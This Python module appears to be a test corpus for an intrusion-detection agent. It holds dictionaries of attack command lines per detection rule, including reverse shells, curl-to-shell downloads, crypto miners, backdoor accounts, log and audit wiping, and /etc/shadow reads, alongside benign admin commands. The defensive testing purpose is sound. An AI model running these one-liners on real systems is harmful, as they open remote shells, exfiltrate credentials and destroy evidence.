"""Attack command lines, several spellings per technique, written from the ATT&CK technique
pages and the descriptions of Defender for IoT's agent-based alerts (other tools, flags,
quoting, full paths or not, wrappers); and routine administration that must raise nothing.

Each attack is given as typed in a shell; the agent reports exec'd processes with their argv
joined by spaces (quotes lost), so argv_forms() also yields that spelling of each.
"""
import shlex

# rule id -> command lines that must raise it (user root unless the entry says otherwise)
ATTACKS = {
    "reverse-shell": [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "/bin/sh -i > /dev/udp/203.0.113.7/53 0<&1 2>&1",
        "sh -c 'exec 5<>/dev/tcp/203.0.113.7/8080; cat <&5 | while read l; do $l 2>&5 >&5; done'",
        "nc -e /bin/sh 203.0.113.7 4444",
        "/usr/bin/ncat 203.0.113.7 443 --sh-exec /bin/bash",
        "busybox nc 203.0.113.7 9001 -e ash",
        "nc.traditional -c bash 203.0.113.7 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 1234 >/tmp/f",
        "socat TCP:203.0.113.7:4444 EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane",
        "socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444",
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        "s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
        "subprocess.call([\"/bin/sh\",\"-i\"])'",
        "/usr/bin/python3.11 -c 'import os,pty,socket;s=socket.socket();s.connect((\"203.0.113.7\",9001));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
        "perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
        "php -r '$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; "
        "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
        "telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445",
        "mkfifo /tmp/.p; /bin/sh 0</tmp/.p | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/.p",
        "node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 203.0.113.7 4444\")'",
        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('203.0.113.7','4242');"
        "os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
        "nohup bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &",
        "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    ],
    "crypto-miner": [
        "./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls",
        "/tmp/.cache/kworker -o stratum+tcp://203.0.113.50:3333 -u worker1 -p x",
        "/usr/local/bin/minerd -a cryptonight -o stratum+tcp://pool.example.net:3333 -u wallet -p x",
        "nohup ./systemd-helper --donate-level 1 -o 203.0.113.50:14444 -u x &",
        "cpuminer-multi --algo=rx/0 --url=stratum+ssl://rx.unmineable.com:443 --user=BTC:abc",
        "sh -c 'cd /dev/shm && ./XMRig -c config.json'",
        "/opt/t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u addr",
    ],
    "download-piped-to-shell": [
        "curl -fsSL http://203.0.113.9/install.sh | sh",
        "wget -qO- http://203.0.113.9/x | bash",
        "curl -s https://evil.example/p.sh | sudo bash -s -- --quiet",
        "sh -c \"$(curl -fsSL https://evil.example/i.sh)\"",
        "bash <(wget -O - http://203.0.113.9/a.sh)",
        "busybox wget -O - http://203.0.113.9/m | sh",
        "/usr/bin/curl http://203.0.113.9/p.py | python3",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://203.0.113.9/p').read())\"",
        "curl http://203.0.113.9/s | /bin/busybox sh",
    ],
    "binary-from-temp": [
        "/tmp/kworkerds",
        "/var/tmp/.update --daemon",
        "/dev/shm/x -c 203.0.113.1",
        "sh /tmp/install.sh",
        "bash /var/tmp/run",
        "python3 /dev/shm/agent.py",
        "/tmp//../tmp/dropper",
    ],
    "binary-hidden-location": [
        "/home/pi/.x/kthreadd",
        "/root/.cache/.sys/agent -d",
        "/usr/lib/.x/.bin/sshd -D",
        "bash /opt/.hidden/start.sh",
    ],
    "suspicious-nohup": [
        "nohup /tmp/x > /dev/null 2>&1 &",
        "nohup /home/pi/.local/share/.s/svc &",
        "nohup bash /var/tmp/.r.sh &",
        "sudo nohup /dev/shm/payload",
        "setsid nohup ./.hidden/agent &",
    ],
    "user-added": [
        "useradd -m -s /bin/bash backdoor",
        "/usr/sbin/adduser --disabled-password --gecos '' svc",
        "busybox adduser -D -H hax",
        "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd",
        "sh -c \"echo 'hack::0:0::/:/bin/sh' | tee -a /etc/passwd\"",
        "echo 'svc:Passw0rd' | chpasswd",
    ],
    "group-changed": [
        "usermod -aG sudo backdoor",
        "/usr/sbin/usermod -a -G docker svc",
        "usermod --append --groups wheel x",
        "gpasswd -a svc sudo",
        "adduser svc sudo",
        "echo 'svc ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "sh -c \"echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/99-x\"",
        "addgroup svc wheel",
    ],
    "firewall-disabled": [
        "iptables -F",
        "/usr/sbin/iptables --flush",
        "iptables -t filter -F INPUT",
        "ip6tables -X",
        "iptables -P INPUT ACCEPT",
        "iptables-legacy --policy FORWARD ACCEPT",
        "nft flush ruleset",
        "ufw disable",
        "systemctl stop firewalld",
        "sudo systemctl disable --now ufw.service",
        "service iptables stop",
        "sh -c 'iptables -F; iptables -X; iptables -P INPUT ACCEPT'",
    ],
    "audit-disabled": [
        "auditctl -e 0",
        "/sbin/auditctl -D",
        "systemctl stop auditd",
        "service auditd stop",
        "pkill -9 auditd",
        "killall auditd",
        "rm -f /etc/audit/rules.d/audit.rules",
    ],
    "logs-removed": [
        "rm -rf /var/log/auth.log",
        "rm /var/log/syslog /var/log/messages",
        "shred -zu /var/log/wtmp",
        "truncate -s 0 /var/log/auth.log",
        "cat /dev/null > /var/log/auth.log",
        "sh -c '> /var/log/lastlog'",
        "echo > /var/log/btmp",
        "find /var/log -type f -delete",
        "find /var/log -name '*.log' -exec rm {} ;",
        "/bin/rm -f /var//log/../log/secure",
        "unlink /var/log/kern.log",
        "journalctl --vacuum-time=1s",
    ],
    "history-cleared": [
        "bash -c 'history -c'",
        "rm ~/.bash_history",
        "rm -f /root/.bash_history",
        "shred -u /home/pi/.bash_history",
        "ln -sf /dev/null ~/.bash_history",
        "cat /dev/null > ~/.bash_history",
        "sh -c 'unset HISTFILE; id'",
        "env HISTFILE=/dev/null bash",
        "bash -c 'export HISTFILESIZE=0'",
        "truncate -s0 /root/.zsh_history",
    ],
    "attack-tool": [
        "msfconsole -q -x 'use exploit/multi/handler'",
        "sh linpeas.sh",
        "bash ./LinEnum.sh -t",
        "/tmp/pspy64",
        "./linpeas.sh -a",
        "python3 /tmp/lazagne.py all",
        "msfvenom -p linux/x86/shell_reverse_tcp LHOST=203.0.113.7 LPORT=4444 -f elf -o s",
        "sqlmap -u http://10.0.0.5/?id=1 --dbs",
    ],
    "network-scanner": [
        "nmap -sS -p- 192.168.1.0/24",
        "/usr/bin/masscan 10.0.0.0/8 -p22,23,2323 --rate 10000",
        "sudo nmap -sV 10.0.0.5",
        "zmap -p 23 -o found.txt",
        "nc -zv 10.0.0.5 1-1024",
    ],
    "brute-force-tool": [
        "hydra -l root -P rockyou.txt ssh://10.0.0.5",
        "/usr/sbin/john --wordlist=w.txt hashes",
        "hashcat -m 1800 -a 0 shadow.txt rockyou.txt",
        "medusa -h 10.0.0.5 -u admin -P p.txt -M ssh",
        "ncrack -p 22 --user root 10.0.0.5",
    ],
    "password-hash-read": [
        "cat /etc/shadow",
        "/bin/cat /etc//shadow",
        "cp /etc/shadow /tmp/s",
        "base64 /etc/shadow",
        "grep root /etc/shadow",
        "sh -c 'tail -n 5 < /etc/shadow'",
        "python3 -c \"print(open('/etc/shadow').read())\"",
        "getent shadow",
        "dd if=/etc/gshadow of=/tmp/g",
        "unshadow /etc/passwd /etc/shadow",
    ],
    "suspicious-compilation": [
        "gcc /tmp/exp.c -o /tmp/exp",
        "cc -o /dev/shm/r /dev/shm/r.c",
        "gcc dirtycow.c -o cow -pthread",
        "gcc -pthread pwnkit.c -o pk",
        "clang -O2 -o /home/pi/.x/svc svc.c",
        "gcc -o .hidden a.c",
    ],
    "port-forwarding": [
        "ssh -N -R 9000:localhost:22 attacker@203.0.113.7",
        "ssh -fN -L 3306:10.0.0.5:3306 user@203.0.113.7",
        "ssh -D 1080 -N user@203.0.113.7",
        "ssh -o RemoteForward=9000:localhost:22 x@203.0.113.7",
        "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
        "./chisel client 203.0.113.7:8000 R:socks",
        "ngrok tcp 22",
        "iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.0.0.5:8080",
        "sysctl -w net.ipv4.ip_forward=1",
        "sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'",
    ],
    "interpreter-mismatch": [
        "python3 /var/www/uploads/logo.png",
        "perl /tmp/x.jpg",
        "bash image.gif",
        "sh update.py",
        "python payload.sh",
        "php avatar.jpeg",
    ],
    "space-after-filename": [
        ("'/home/pi/report.txt '", {"executable": "/home/pi/report.txt "}),
        ("\"./invoice.pdf \"", {"executable": "/home/pi/invoice.pdf "}),
        ("/tmp/photo.jpg  -d", {"executable": "/tmp/photo.jpg "}),
    ],
    "docker-daemon-exposed": [
        "dockerd -H tcp://0.0.0.0:2375",
        "/usr/bin/dockerd --host=tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock",
        "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock",
    ],
    "privileged-container": [
        "docker run --privileged -it alpine sh",
        "docker run -v /:/host -it alpine chroot /host",
        "podman run --cap-add=SYS_ADMIN fedora",
        "docker run --cap-add ALL --pid=host ubuntu",
        "docker run --pid host --security-opt apparmor=unconfined busybox",
        "nerdctl run --privileged alpine",
        "docker run -v /var/run/docker.sock:/var/run/docker.sock docker:cli",
    ],
    "web-server-shell": [
        ("sh -c id", {"user_name": "www-data", "user_id": 33}),
        ("/bin/bash -c whoami", {"user_name": "www-data", "user_id": 33}),
        ("uname -a", {"user_name": "nginx", "user_id": 101}),
        ("wget http://203.0.113.9/s.php", {"user_name": "apache", "user_id": 48}),
    ],
}

# Spellings written after the catalogue, without looking at it: 54 of their 57 forms were caught
# then. Two misses were fixed (a known miner's name, `auditctl -e0`); the third, a renamed miner
# started with only a config file (`nohup ./sysupdate -c config.json`), says nothing of itself
# on its command line and is left out: its pool connections are what a threat list catches.
LATER = {
 "reverse-shell": ["/bin/bash -c 'sh -i >& /dev/tcp/198.51.100.3/1337 0>&1'", "ncat -nv 198.51.100.3 8443 -e /bin/zsh", "nc 198.51.100.3 53 -e /bin/ash", "python -c \"import socket,os,pty;s=socket.socket();s.connect(('198.51.100.3',80));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn('/bin/sh')\"", "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"198.51.100.3:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'", "socat tcp-connect:198.51.100.3:4444 exec:sh,pty,stderr,setsid", "0<&196;exec 196<>/dev/tcp/198.51.100.3/4242; sh <&196 >&196 2>&196", "/usr/bin/php -r '$s=fsockopen(\"198.51.100.3\",1234);shell_exec(\"sh <&3 >&3 2>&3\");'", "busybox sh -i 2>&1 | busybox nc 198.51.100.3 9999 > /tmp/p < /tmp/p"],
 "crypto-miner": ["/var/tmp/.x/xmrig --url pool.hashvault.pro:443 --user 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --tls", "./kdevtmpfsi -o 198.51.100.9:5555", "minerd -o stratum+tcp://xmr.example.org:3333 -u WALLET", "./cpuminer --algo=cryptonight -o stratum+tcp://203.0.113.1:3333"],
 "download-piped-to-shell": ["wget -O- -q http://198.51.100.3/s | /bin/sh", "curl -sL 198.51.100.3/i|bash", "curl -fsSL https://x.example/a -o- | sudo -E bash", "fetch -o - http://198.51.100.3/x | sh", "lwp-download http://198.51.100.3/a.sh /dev/stdout | sh"],
 "logs-removed": ["rm -f /var/log/auth.log*", "find /var/log/ -type f -exec truncate -s 0 {} \\;", "cp /dev/null /var/log/syslog", "shred -n 3 -u -z /var/log/messages"],
 "history-cleared": ["rm -rf ~/.bash_history", "history -c && exit", "export HISTFILE=/dev/null", "echo '' > /root/.bash_history"],
 "firewall-disabled": ["iptables -t nat -F", "iptables -P OUTPUT ACCEPT", "/usr/sbin/ufw --force disable", "systemctl mask --now firewalld", "nft flush table inet filter"],
 "user-added": ["useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor", "adduser --system backdoor"],
 "password-hash-read": ["less /etc/shadow", "awk -F: '{print $2}' /etc/shadow", "head -n 3 /etc/shadow", "xxd /etc/shadow"],
 "audit-disabled": ["auditctl -e0", "systemctl disable auditd.service", "service auditd stop"],
 "binary-from-temp": ["/dev/shm/.x", "/tmp/update.bin --silent", "chmod +x /tmp/a; /tmp/a"],
 "network-scanner": ["nmap -Pn -p 22,23 10.0.0.0/24", "masscan -p1-65535 192.168.0.0/16 --rate=1000"],
 "privileged-container": ["docker run -d --privileged --net=host alpine", "docker container run --cap-add=SYS_ADMIN -it ubuntu bash"],
 "port-forwarding": ["ssh -R 0.0.0.0:8080:127.0.0.1:22 u@198.51.100.3 -N", "socat tcp4-listen:3389,reuseaddr,fork tcp4:10.0.0.9:3389"],
}
for _rule, _lines in LATER.items():
    ATTACKS[_rule].extend(_lines)

# routine administration, as an admin who logged in as usual would type it: must raise nothing
BENIGN = [
    "df -h", "free -m", "uptime", "systemctl restart nginx", "systemctl status sshd",
    "sudo systemctl restart mosquitto.service", "journalctl -u microagent -f",
    "journalctl --vacuum-time=2weeks", "journalctl --vacuum-size=500M",
    "apt-get update", "apt-get upgrade -y", "sudo apt install -y htop", "dpkg -l",
    "ls -la /var/log", "tail -f /var/log/syslog", "grep sshd /var/log/auth.log",
    "less /var/log/messages", "cat /etc/os-release", "ip a", "ps aux", "top -b -n 1",
    "curl -fsSL https://example.com/health", "wget https://example.com/file.tar.gz",
    "curl -o /tmp/fw.bin https://updates.example.com/fw.bin", "sha256sum /tmp/fw.bin",
    "tar xzf file.tar.gz", "python3 manage.py migrate", "python3 -m pip install --user requests",
    "/home/pi/.local/bin/pipx list", "/home/pi/.cargo/bin/cargo build --release",
    "bash /home/pi/.bashrc", "sh /etc/init.d/networking restart",
    "iptables -L -n -v", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
    "iptables -S", "nft list ruleset", "ufw status", "ufw allow 22/tcp", "ufw enable",
    "auditctl -l", "auditctl -e 1", "systemctl start auditd", "rm -rf /tmp/build",
    "find /var/log -name '*.gz' -mtime +30 -print", "logrotate -f /etc/logrotate.conf",
    "echo 'started' >> /var/log/myapp.log", "passwd", "id", "whoami", "hostname",
    "ssh pi@10.0.0.5", "scp backup.tar.gz pi@10.0.0.5:/backups/",
    "docker ps", "docker run --rm -p 8080:80 nginx", "docker -H tcp://10.0.0.5:2376 ps",
    "gcc -O2 -o app main.c", "make -j2", "cc -c /tmp/pip-build-env-abc/x.c",
    "openssl s_client -connect example.com:443", "echo | openssl s_client -connect example.com:443",
    "nc -zv example.com 443", "ping -c 3 8.8.8.8", "crontab -l", "cat /etc/passwd",
    "usermod -s /bin/bash pi", "chmod 755 /usr/local/bin/tool", "rsync -a /srv/ /backup/",
    "python3 /opt/app/server.py", "node /srv/app/index.js", "perl -e 'print 1+1'",
    "python3 -c 'import socket; print(socket.gethostname())'", "sed -i s/a/b/ /etc/hosts",
    "cat /etc/group", "getent passwd pi", "history", "vim /etc/ssh/sshd_config",
    "ssh-keygen -t ed25519", "ln -sf /usr/share/zoneinfo/UTC /etc/localtime",
    "/usr/lib/openssh/sftp-server", "/usr/sbin/sshd -D", "bash -c 'echo hello'",
]


def argv_forms(line):
    """LINE as typed and as the agent reports an exec'd argv (joined by spaces, quotes gone);
    one form when they are the same or the line does not split."""
    forms = [line]
    try:
        joined = " ".join(shlex.split(line))
    except ValueError:
        return forms
    if joined != line:
        forms.append(joined)
    return forms


def entries(spellings):
    """(commandline, extra item fields) for each spelling."""
    for entry in spellings:
        if isinstance(entry, tuple):
            yield entry
        else:
            yield entry, {}


def corpus_events(t0):
    """Every spelling of every technique as an exec, 2 s apart from T0:
    (trace events, [(rule, commandline)] in the same order)."""
    events, expected, t, pid = [], [], t0, 20000
    for rule, spellings in ATTACKS.items():
        for line, extra in entries(spellings):
            for form in argv_forms(line):
                pid += 1
                event = {"kind": "process", "t": round(t, 3), "type": "exec", "pid": pid,
                         "ppid": 1, "uid": extra.get("user_id", 0), "commandline": form,
                         "user_name": extra.get("user_name", "root")}
                if "executable" in extra:
                    event["executable"] = extra["executable"]
                events.append(event)
                expected.append((rule, form))
                t += 2
    return events, expected
